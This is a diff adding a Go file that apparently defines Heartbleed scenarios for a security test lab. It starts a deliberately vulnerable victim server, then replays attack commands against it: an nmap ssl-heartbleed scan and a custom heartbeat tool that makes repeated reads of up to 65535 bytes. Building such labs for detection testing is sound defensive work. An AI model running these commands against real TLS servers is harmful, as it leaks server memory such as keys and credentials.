@@ -1,0 +1,51 @@
+package lab
+
+import (
+	"context"
+	"fmt"
+	"strings"
+	"time"
+
+	"firetower/internal/attack"
+)
+
+// heartbleeds: reads from a TLS server that gives more than it was sent.
+func heartbleeds() []Scenario {
+	row := func(name, line string, also ...attack.Class) Scenario {
+		return Scenario{Name: name, Class: attack.Heartbleed, Also: also, Limit: 50 * time.Second, Play: func(ctx context.Context, r *Run) error {
+			return readMemory(ctx, r, line)
+		}}
+	}
+	return []Scenario{
+		row("nmap-heartbleed", "nmap -n -Pn -p PORT --script ssl-heartbleed VICTIM"),
+		row("heartbleed-once", "SELF heartbeat -to VICTIM:PORT -reads 1 -size SIZE"),
+		row("heartbleed-some", "SELF heartbeat -to VICTIM:PORT -reads READS -size SIZE -every 500ms"),
+		row("heartbleed-many", "SELF heartbeat -to VICTIM:PORT -reads 40 -size 65535 -every 300ms"),
+		row("heartbleed-anew", "SELF heartbeat -to VICTIM:PORT -connections READS -reads 1 -size SIZE -every 1s"),
+	}
+}
+
+func readMemory(ctx context.Context, r *Run, line string) error {
+	a, err := r.attacker(ctx)
+	if err != nil {
+		return err
+	}
+	victim, err := r.host(ctx, "bleeding", true)
+	if err != nil {
+		return err
+	}
+	port := r.pick("443", "443", "444", "8443", "993")
+	if err := victim.Serve(self(), "actor", "bleed", "-listen", ":"+port); err != nil {
+		return err
+	}
+	r.against(victim)
+	pause(ctx, 300*time.Millisecond)
+	line = strings.NewReplacer("VICTIM", victim.Addr.String(), "PORT", port, "READS", fmt.Sprint(r.between(3, 15)),
+		"SIZE", r.pick("16384", "65535", "4096", "32768")).Replace(line)
+	if rest, ok := strings.CutPrefix(line, "SELF "); ok {
+		r.actor(ctx, a, "%s", rest)
+		return nil
+	}
+	r.play(ctx, a, "%s", line)
+	return nil
+}
